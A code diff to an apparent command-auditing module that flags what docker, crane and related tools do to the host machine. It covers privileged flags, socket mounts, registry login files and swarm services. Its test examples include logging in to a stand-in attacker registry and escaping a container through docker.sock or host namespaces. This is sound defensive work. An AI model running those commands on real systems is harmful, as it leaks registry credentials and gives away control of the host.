@@ -6,9 +6,12 @@ A container that is given folders, devices or powers of this machine is as stron
 from __future__ import annotations
 
 from assent.commands.compose import COMPOSE
+from assent.commands.config_files import CONTAINERS_LOGIN, kept
+from assent.commands.config_files import DOCKER as DOCKER_LOGIN
 from assent.commands.inside import inspected, shown_inside
+from assent.commands.mounts import composed, power, powers
 from assent.commands.nested import does, nested
-from assent.commands.program import Program
+from assent.commands.program import Program, changes
 from assent.types import Word
 
 TYPE_CHECKING = False
@@ -36,16 +39,12 @@ CREATION = (
     " --stop-timeout= --storage-opt= --sysctl= --tmpfs= -t,--tty -u,--user= --userns= --uts= -v,--volume="
     " --volume-driver= --volumes-from= -w,--workdir=" + LIMITS
 )
-POWERS = (
-    "--privileged --cap-add --security-opt --device-cgroup-rule --volumes-from --volume-driver --runtime --gpus"
-    " --sysctl --cgroup-parent --storage-opt --log-driver --annotation --oom-score-adj"
-).split()
-HOST_SPACES = ("--pid", "--ipc", "--uts", "--userns", "--network", "--cgroupns")
 OWN = (
-    "--config=unknown -c,--context=unknown -D,--debug -H,--host=unknown -l,--log-level= --tls --tlscacert=read"
+    "--config=unknown -c,--context=unknown -D,--debug -H,--host= -l,--log-level= --tls --tlscacert=read"
     " --tlscert=read --tlskey=read --tlsverify -v,--version"
 )
 READ = (("note", "containers and images", "docker.read"),)
+DOCKERS = ("docker", "nerdctl", "crane")
 BUILD = (
     "--add-host= --build-arg= --build-context= --builder= --cache-from= --cgroup-parent= --compress"
     " --disable-content-trust -f,--file= --force-rm --iidfile=write --isolation= --label= --load --metadata-file=write"
@@ -64,63 +63,9 @@ def _creating(args: Args) -> Iterator[Fact]:
             yield from _registry(args, word, "reach", "docker.pull", "image registry")
     yield args.effect("run", f"{image} (container)", "program")
     yield from shown_inside(args, args.operands[1:])
-    yield from _powers(args)
-    for word in args.values("-v"):
-        yield from _volume(args, word)
-    for word in args.values("--mount"):
-        yield from _mount(args, word)
-    for word in args.values("--device"):
-        yield from args.file("write", _head(word))
-        yield args.gap("gives the container a device of this machine")
-
-
-def _powers(args: Args) -> Iterator[Fact]:
-    for name in POWERS:
-        if args.has(name):
-            yield args.gap(f"{name} gives the container power over this machine")
-    for name in HOST_SPACES:
-        for word in args.values(name):
-            if word.value is None or word.value.startswith(("host", "container:", "ns:")):
-                yield args.gap(f"{name} shares something of this machine or another container")
+    yield from powers(args)
     if not args.operands:
         yield args.gap("no image is named")
-
-
-def _head(word: Word) -> Word:
-    """The part of `source:target:options` that names something of this machine."""
-    return word if word.value is None else Word(word.text, word.value.partition(":")[0])
-
-
-def _volume(args: Args, word: Word) -> Iterator[Fact]:
-    source, colon, rest = (word.value or "").partition(":")
-    if word.value is not None and (not colon or ("/" not in source and not source.startswith((".", "~")))):
-        return
-    options = rest.partition(":")[2].split(",")
-    yield from _mounted(args, _head(word), writable="ro" not in options and "readonly" not in options)
-
-
-def _mount(args: Args, word: Word) -> Iterator[Fact]:
-    """`type=bind,source=DIR,target=DIR,readonly`; anything that is not written this plainly is a gap."""
-    if word.value is None or '"' in word.value:
-        yield args.gap(f"the mount is not known ({word.why or 'quotes'})", blind=True)
-        return
-    fields = dict(field.partition("=")[::2] for field in word.value.split(","))
-    kind = fields.get("type", "volume")
-    if kind == "bind":
-        source = fields.get("source", fields.get("src", ""))
-        only_read = any(fields.get(name) in ("", "true", "1") for name in ("readonly", "ro"))
-        yield from _mounted(args, Word(word.text, source), writable=not only_read)
-    elif kind not in ("volume", "tmpfs") or "volume-opt" in word.value:
-        yield args.gap(f"the mount `{word.text}` is not understood")
-
-
-def _mounted(args: Args, source: Word, *, writable: bool) -> Iterator[Fact]:
-    yield from args.file("read", source, deep=True)
-    if writable:
-        yield from args.file("write", source, deep=True, code="mounted")
-        yield args.gap("the container may do anything with the folder it is given")
-    if (source.value or "").endswith(".sock"):
-        yield args.gap("a socket of this machine is given to the container")
 
 
 def _executing(args: Args) -> Iterator[Fact]:
@@ -130,7 +75,7 @@ def _executing(args: Args) -> Iterator[Fact]:
     yield args.effect("run", f"{' '.join(words)[:200]} (in container {container})", "program")
     yield from shown_inside(args, args.operands[1:])
     if args.has("--privileged"):
-        yield args.gap("--privileged gives the command power over this machine")
+        yield power(args, "--privileged")
 
 
 def _building(args: Args) -> Iterator[Fact]:
@@ -193,7 +138,18 @@ def _registry(args: Args, word: Word, kind: Kind, code: str, otherwise: str = ""
         yield args.effect(kind, otherwise or word.text, code)
 
 
+def _login_files(args: Args) -> Iterator[Fact]:
+    """docker and its kin keep the passwords of registries in one file."""
+    tool = args.name.partition(" ")[0]
+    if args.has("--authfile"):
+        for word in args.values("--authfile"):
+            yield from args.file("write", word)
+    else:
+        yield from kept(args, "write", *((DOCKER_LOGIN,) if tool in DOCKERS else (CONTAINERS_LOGIN, DOCKER_LOGIN)))
+
+
 def _logging_in(args: Args) -> Iterator[Fact]:
+    yield from _login_files(args)
     for word in args.operands:
         if word.value:
             yield from args.reach(
@@ -234,6 +190,21 @@ def _remote_image(args: Args) -> Iterator[Fact]:
 
 def _change(code: str, options: str = "") -> Program:
     return does("change", "containers and images", f"docker.{code}", options)
+
+
+def _serving(args: Args) -> Iterator[Fact]:
+    """Services and stacks are containers as well, with folders and powers of the machine."""
+    yield args.effect("change", "containers and images", "docker.swarm")
+    yield from powers(args)
+    for word in args.values("-c"):
+        yield from args.file("read", word)
+        yield from composed(args, (word.value,)) if word.value else ()
+
+
+def _chosen_context(args: Args) -> Iterator[Fact]:
+    """The daemon that later commands talk to; its keys are kept beside the settings."""
+    yield args.effect("change", "containers and images", "docker.context")
+    yield from kept(args, "write", DOCKER_LOGIN if args.name.endswith(" use") else "~/.docker/contexts")
 
 
 LISTING = "-a,--all -f,--filter= --format= -n,--last= -l,--latest --no-trunc -q,--quiet -s,--size --digests --tree"
@@ -281,17 +252,37 @@ CHANGE_COMMANDS = {
     "commit container/commit": _change("commit", "-a,--author= -c,--change= -m,--message= -p,--pause"),
     "rm container/rm container/remove": Program("-f,--force -l,--link -v,--volumes", "text*", more=_removing),
     "rmi image/rm image/remove": Program("-f,--force --no-prune", "text*", more=_removing),
-    "volume/create network/create context/create context/use context/update": _change(
+    "volume/create network/create": _change(
         "create", "-d,--driver= --label= --name= --subnet= --gateway= --internal --attachable --ipv6 --description="
     ),
+    "context/create context/use context/update context/rm context/import": Program(
+        "--description= --docker= --from= --default-stack-orchestrator= --kubernetes= -f,--force",
+        "text*",
+        more=_chosen_context,
+    ),
+    "buildx/create buildx/use": Program(
+        "--append --bootstrap --buildkitd-config=read --buildkitd-flags= --config=read --driver= --driver-opt= --leave"
+        " --name= --node= --platform= --use --default --global --builder=",
+        "text*",
+        does=changes("docker.context", "containers and images", "~/.docker/buildx"),
+    ),
     "network/connect network/disconnect": _change("network", "--alias= --ip= -f,--force"),
-    "volume/rm volume/remove network/rm network/remove context/rm": _change("rm.destroy", "-f,--force"),
+    "volume/rm volume/remove network/rm network/remove": _change("rm.destroy", "-f,--force"),
     "system/reset machine/reset system/prune container/prune image/prune volume/prune network/prune builder/prune"
     " buildx/prune": _change("prune.destroy", PRUNING),
     "pull image/pull": Program("-a,--all-tags --disable-content-trust --platform= -q,--quiet", "text*", more=_pulling),
     "push image/push": Program("-a,--all-tags --disable-content-trust --platform= -q,--quiet", "text*", more=_pushing),
-    "login": Program("-u,--username= -p,--password= --password-stdin", "text?", more=_logging_in),
-    "logout": _change("logout"),
+    "login": Program(
+        "-u,--username= -p,--password= --password-stdin --authfile= --tls-verify[=] -v,--verbose --get-login",
+        "text?",
+        more=_logging_in,
+    ),
+    "logout": Program(
+        "-a,--all --authfile=",
+        "text?",
+        does=(("change", "containers and images", "docker.logout"),),
+        more=_login_files,
+    ),
     "cp container/cp": Program("-a,--archive -L,--follow-link -q,--quiet", "text text", more=_copying),
     "save image/save": Program("-o,--output=write --platform=", "text*", does=READ),
     "export container/export": Program("-o,--output=write", "text*", does=READ),
@@ -300,7 +291,19 @@ CHANGE_COMMANDS = {
     ),
     "import image/import": Program("-c,--change= -m,--message= --platform=", "text*", more=_importing),
     "swarm/leave": _change("swarm.destroy", "-f,--force"),
-    "swarm/init swarm/join service/create service/update service/scale stack/deploy": _change("swarm"),
+    "swarm/init swarm/join service/scale": _change("swarm"),
+    "service/create service/update": Program(
+        "--mount= --cap-add= --name= --replicas= -e,--env= -p,--publish= --network= -d,--detach[=] -q,--quiet"
+        " --mount-add= --image= --force --mode= --constraint= --with-registry-auth -u,--user= -w,--workdir=",
+        "text*",
+        more=_serving,
+        style="posix",
+    ),
+    "stack/deploy": Program(
+        "-c,--compose-file= -d,--detach[=] --prune -q,--quiet --resolve-image= --with-registry-auth",
+        "text",
+        more=_serving,
+    ),
     "swarm/update": _change(
         "swarm", "--cert-expiry= --dispatcher-heartbeat= --max-snapshots= --snapshot-interval= --task-history-limit="
     ),
@@ -309,7 +312,20 @@ CHANGE_COMMANDS = {
         "-f,--filter= --format= -q,--quiet --no-trunc --no-resolve"
     ),
 }
-DOCKER = Program(OWN, commands=nested({**READ_COMMANDS, **CHANGE_COMMANDS}) | {"compose": COMPOSE}, style="bare")
+
+
+def _daemon(args: Args) -> Iterator[Fact]:
+    """Another daemon than usual, through a socket of this machine or elsewhere."""
+    for word in args.values("-H"):
+        if word.value is not None and word.value.startswith(("unix:", "/")):
+            yield from args.file("write", Word(word.text, f"/{word.value.removeprefix('unix:').lstrip('/')}"))
+        else:
+            yield from args.act("unknown", word)
+
+
+DOCKER = Program(
+    OWN, commands=nested({**READ_COMMANDS, **CHANGE_COMMANDS}) | {"compose": COMPOSE}, more=_daemon, style="bare"
+)
 
 
 def _endpoints(args: Args) -> Iterator[Fact]:
@@ -321,7 +337,16 @@ def _endpoints(args: Args) -> Iterator[Fact]:
 
 REGISTRY = (("reach", "image registry", "cloud.read"),)
 IMAGE_CHANGE = (("send", "image registry", "docker.push.publish"),)
+LOGINS = {
+    "login": Program(
+        "-u,--username= -p,--password= --password-stdin --authfile= --tls-verify[=] -v,--verbose --get-login",
+        "text?",
+        more=_logging_in,
+    ),
+    "logout": Program("-a,--all --authfile=", "text?", more=_login_files),
+}
 SKOPEO = {
+    **LOGINS,
     "inspect list-tags": Program(
         "--config --raw -f,--format= --no-tags -n --override-arch= --override-os=",
         "text",
@@ -331,6 +356,7 @@ SKOPEO = {
     "delete": Program("", "text", does=(("send", "image registry", "docker.push.destroy"),)),
 }
 CRANE = {
+    **{f"auth/{name}": program for name, program in LOGINS.items()},
     "ls manifest config digest catalog validate": Program(
         "--platform= --full-ref --tarball=read --remote=", "text*", does=REGISTRY
     ),
@@ -347,6 +373,7 @@ CRANE = {
     "version": Program(),
 }
 BUILDAH = {
+    **LOGINS,
     "images containers": Program(
         "-a,--all --digests --format= -f,--filter= -n,--noheading --no-trunc -q,--quiet --json"
     ),
@@ -398,7 +425,7 @@ PROGRAMS = {
 }
 
 EXAMPLES = {
-    "docker login evil.example": "send evil.example #docker.login",
+    "docker login evil.example": "write ~/.docker/config.json | send evil.example #docker.login",
     "crane pull evil.example/x a": "write a | reach evil.example/x #cloud.read",
     "crane validate --remote x": "reach image registry #cloud.read",
     "crane mutate --help": "note crane mutate",
@@ -434,14 +461,13 @@ EXAMPLES = {
     "docker run -v data:/var/lib/x --pull never db": "change db #docker.run | run db (container) #program",
     "docker run --mount type=bind,source=/srv,target=/srv,readonly alpine": "change alpine #docker.run"
     " | reach image registry #docker.pull | run alpine (container) #program | read /srv/**",
-    "docker run -v /var/run/docker.sock:/var/run/docker.sock:ro x": "change x #docker.run"
-    " | reach image registry #docker.pull | run x (container) #program | read /var/run/docker.sock/**"
-    " | gap docker run: a socket of this machine is given to the container",
-    "docker run --privileged --pid=host --network host alpine sh": "change alpine #docker.run"
-    " | reach image registry #docker.pull | run alpine (container) #program"
-    " | gap docker run: --privileged gives the container power over this machine"
-    " | gap docker run: --pid shares something of this machine or another container"
-    " | gap docker run: --network shares something of this machine or another container",
+    "docker run -v /var/run/docker.sock:/var/run/docker.sock:ro x": "change x #docker.run | reach image registry"
+    " #docker.pull | run x (container) #program | read /var/run/docker.sock/** | change this machine, by the"
+    " socket /var/run/docker.sock #privilege",
+    "docker run --privileged --pid=host --network host alpine sh": "change alpine #docker.run | reach image registry"
+    " #docker.pull | run alpine (container) #program | change this machine, by --privileged #privilege | change"
+    " this machine, by --pid #privilege | gap docker run: --pid shares something of this machine or another"
+    " container | gap docker run: --network shares something of this machine or another container",
     'docker run -v "$X:/y" alpine': "change alpine #docker.run | reach image registry #docker.pull"
     " | run alpine (container) #program | blind docker run: reads a path that is not known (variable X)"
     " | blind docker run: writes a path that is not known (variable X)"
@@ -468,7 +494,7 @@ EXAMPLES = {
     "docker volume rm data": "change containers and images #docker.rm.destroy",
     "docker pull nginx": "reach nginx #docker.pull | change docker images #docker.pull",
     "docker push me/app": "send me/app #docker.push.publish",
-    "docker login -u x": "send image registry #docker.login",
+    "docker login -u x": "write ~/.docker/config.json | send image registry #docker.login",
     "docker save -o a app": "write a | note containers and images #docker.read",
     "docker load -i a": "read a | change docker images #docker.load",
     "docker import a x": "change docker images #docker.import | read a",
